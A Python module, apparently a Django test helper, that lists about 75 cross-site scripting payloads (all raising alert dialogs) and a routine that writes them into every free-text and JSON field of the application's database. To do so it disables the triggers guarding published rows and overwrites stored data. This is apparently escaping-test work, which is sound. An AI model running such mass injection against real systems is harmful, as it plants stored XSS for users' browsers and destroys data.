"""What somebody stores who wants a script to run in another person's browser, and a way to store it in every free text."""

import re
from collections import Counter
from collections.abc import Iterator
from itertools import cycle

from django.apps import apps
from django.db import DatabaseError, connection, models, transaction

# Every payload raises a dialog where it runs.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script >alert(3)</script >",
    "<script/x>alert(4)</script>",
    "<scr<script>ipt>alert(5)</scr</script>ipt>",
    '"><script>alert(6)</script>',
    "'><script>alert(7)</script>",
    "</title><script>alert(8)</script>",
    "</textarea><script>alert(9)</script>",
    "</script><script>alert(10)</script>",
    "--><script>alert(11)</script>",
    "]]><script>alert(12)</script>",
    "</style><script>alert(13)</script>",
    "</option></select><script>alert(14)</script>",
    "<script src=data:text/javascript,alert(15)></script>",
    "<script src=//127.0.0.1/x.js>alert(16)</script>",
    "<script type=module>alert(17)</script>",
    "<img src=x onerror=alert(18)>",
    '"><img src=x onerror=alert(19)>',
    "'\"><img src=x onerror=alert(20) x='",
    "<img/src=x/onerror=alert(21)>",
    "<IMG SRC=x ONERROR=alert(22)>",
    "<img src=x onerror=alert`23`>",
    "<img src=x onerror=&#97;lert(24)>",
    "<img src='x' onerror='&#x61;lert(25)'>",
    "<svg onload=alert(26)>",
    "<svg/onload=alert(27)>",
    "<svg><script>alert(28)</script></svg>",
    "<svg><animate onbegin=alert(29) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(30)><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(31)>>",
    "<math><mi xlink:href=javascript:alert(32)>x</mi></math>",
    "<body onload=alert(33)>",
    "<body onpageshow=alert(34)>",
    "<iframe src=javascript:alert(35)></iframe>",
    "<iframe srcdoc='<script>alert(36)</script>'></iframe>",
    "<object data=javascript:alert(37)></object>",
    "<embed src=javascript:alert(38)>",
    "<a href=javascript:alert(39)>x</a>",
    "<a href='java\tscript:alert(40)'>x</a>".replace("\t", "&Tab;"),
    "javascript:alert(41)",
    "JaVaScRiPt:alert(42)",
    "data:text/html,<script>alert(43)</script>",
    "<form action=javascript:alert(44)><button>x</button></form>",
    "<button formaction=javascript:alert(45)>x</button>",
    "<input autofocus onfocus=alert(46)>",
    "<select autofocus onfocus=alert(47)></select>",
    "<textarea autofocus onfocus=alert(48)></textarea>",
    "<details open ontoggle=alert(49)><summary>x</summary></details>",
    "<video><source onerror=alert(50)></video>",
    "<audio src=x onerror=alert(51)>",
    "<video src=x onloadstart=alert(52)>",
    "<marquee onstart=alert(53)>x</marquee>",
    "<div onpointerover=alert(54)>x</div>",
    "<style>@import 'javascript:alert(55)';</style>",
    "<div style=animation-name:x onanimationstart=alert(56)>",
    "<link rel=stylesheet href=data:text/css,* onload=alert(57)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(58)'>",
    "<base href=javascript:alert(59)//>",
    "<template><script>alert(60)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(61)>'>",
    '" onfocus=alert(62) autofocus x="',
    "' onfocus=alert(63) autofocus x='",
    "{{constructor.constructor('alert(64)')()}}",
    "${alert(65)}",
    "{% debug %}<script>alert(66)</script>",
    "<div x-data x-init=alert(67)></div>",
    "<div hx-get=/ hx-trigger=load hx-on::load=alert(68)>",
    "<x data-hx-on:click=alert(69)>x</x>",
    "';alert(70)//",
    '";alert(71)//',
    "\\u003cscript\\u003ealert(72)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(73)%3C/script%3E",
    "&lt;script&gt;alert(74)&lt;/script&gt;",
    "＜script＞alert(75)＜/script＞",
)
MARK = "alert"
# A column of free text holds, somewhere in the story, a blank or a Chinese word; a code, a number or a key never does.
_FREE = "[ \u4e00-\u9fff]"
_FREE_TEXT = re.compile(_FREE)


def planted() -> tuple[Counter[str], set[str]]:
    """Store payloads in every free text of every row, past the triggers that keep published rows as they are.

    Returns how many each column holds now, and the columns whose constraints admit no such text.
    """
    stored, refused = Counter[str](), set[str]()
    for model in apps.get_models():
        if model.__module__.startswith(("core.", "accounts.", "registry.", "licensing.", "mediation.")):
            for column in model._meta.concrete_fields:
                name = f"{model._meta.label}.{column.name}"
                try:
                    with transaction.atomic(), connection.cursor() as cursor:
                        cursor.execute("SET LOCAL session_replication_role = replica")
                        stored[name] += _planted_in(cursor, model, column)
                except DatabaseError:
                    refused.add(name)
    return +stored, refused


def _planted_in(cursor, model: type[models.Model], column: models.Field) -> int:
    if isinstance(column, models.JSONField):
        return _planted_in_json(model, column)
    if not isinstance(column, models.CharField | models.TextField) or column.choices or column.primary_key:
        return 0
    table, name, key = (f'"{it}"' for it in (model._meta.db_table, column.column, model._meta.pk.column))
    cursor.execute(f"SELECT bool_or({name} ~ %s), bool_or({name} <> '') FROM {table}", [_FREE])
    free, used = cursor.fetchone()
    if not free and (used or not isinstance(column, models.TextField)):
        return 0
    longest = (column.max_length or 4000) - 4  # room for the number that keeps rows apart
    fitting = [payload for payload in PAYLOADS if len(payload) <= longest]
    apart = "|| place" if column.unique else ""
    cursor.execute(
        f"UPDATE {table} SET {name} = (%s::text[])[1 + place %% %s] {apart} FROM "
        f"(SELECT {key} AS which, row_number() OVER () AS place FROM {table}) AS counted "
        f"WHERE {key} = which AND ({name} <> '' OR %s)",
        [fitting, len(fitting), not used],
    )
    return cursor.rowcount


def _planted_in_json(model: type[models.Model], column: models.Field) -> int:
    payloads, changed = cycle(PAYLOADS), 0
    for key, kept in model._base_manager.values_list("pk", column.name):
        said = _replaced(kept, payloads)
        if said != kept:
            changed += model._base_manager.filter(pk=key).update(**{column.name: said})
    return changed


def _replaced(value: object, payloads: Iterator[str]) -> object:
    match value:
        case dict():
            return {name: _replaced(inner, payloads) for name, inner in value.items()}
        case list():
            return [_replaced(inner, payloads) for inner in value]
        case str() if _FREE_TEXT.search(value):
            # Short texts stay short: what was agreed is read back by its own rules.
            return next(payload for payload in payloads if len(payload) <= max(len(value), 30))
    return value
